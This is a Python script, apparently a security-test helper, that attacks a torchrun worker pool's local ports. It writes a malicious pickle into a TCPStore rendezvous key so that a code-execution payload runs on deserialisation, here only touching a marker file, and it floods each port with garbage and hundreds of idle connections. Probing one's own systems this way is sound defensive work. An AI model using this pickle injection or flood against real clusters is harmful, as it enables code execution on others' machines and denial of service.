"""What a local process can do to a pool's ports: `python attacker.py USER RUN_ID MARKER PORT...`, as the user of that
number. Prints what it achieved: {"stores": ports that answered as a TCPStore}. MARKER: a file that code of the
attacker's, wherever it runs, would write."""

import base64
import json
import os
import pickle
import socket
import sys
import time
from concurrent.futures import ThreadPoolExecutor
from datetime import timedelta
from pathlib import Path

import torch.distributed as dist

GARBAGE = (b"", bytes(8), os.urandom(4096), b"GET / HTTP/1.1\r\n\r\n")
CONNECTIONS = 300
"""To each port, that stay."""
PATIENCE = 8
"""Seconds: torchrun's rendezvous reads its key every 5."""


class Payload:
    def __init__(self, marker: str):
        self._marker = marker

    def __reduce__(self):
        return Path.touch, (Path(self._marker),)


def poison(port: int, run_id: str, marker: str) -> bool:
    """Whether a store answered; its rendezvous then reads the payload next."""
    try:
        store = dist.TCPStore("127.0.0.1", port, is_master=False, timeout=timedelta(milliseconds=300))
        store.set(f"torch.rendezvous.{run_id}", base64.b64encode(pickle.dumps(Payload(marker))).decode())
    except (RuntimeError, ValueError):
        return False
    return True


def flood(port: int) -> list[socket.socket]:
    """Connections with garbage, and many that say nothing."""
    for data in GARBAGE:
        try:
            with socket.socket() as connection:
                connection.settimeout(0.2)
                connection.connect(("127.0.0.1", port))
                connection.sendall(data)
        except OSError:
            pass  # refused, or not answered
    silent = [socket.socket() for _ in range(CONNECTIONS)]
    for connection in silent:
        connection.setblocking(False)
        connection.connect_ex(("127.0.0.1", port))
    return silent


def main(user: int, run_id: str, marker: str, ports: list[int]) -> None:
    if user != os.getuid():
        os.setgroups([])
        os.setgid(user)
        os.setuid(user)
    with ThreadPoolExecutor(len(ports)) as threads:
        found = list(threads.map(lambda p: poison(p, run_id, marker), ports))
        stores = [port for port, hit in zip(ports, found, strict=True) if hit]
        held = list(threads.map(flood, ports))
    if stores:
        time.sleep(PATIENCE)
    print(json.dumps({"stores": stores, "held": sum(map(len, held))}), flush=True)
    sys.stdin.read()


if __name__ == "__main__":
    main(int(sys.argv[1]), sys.argv[2], sys.argv[3], [int(port) for port in sys.argv[4:]])
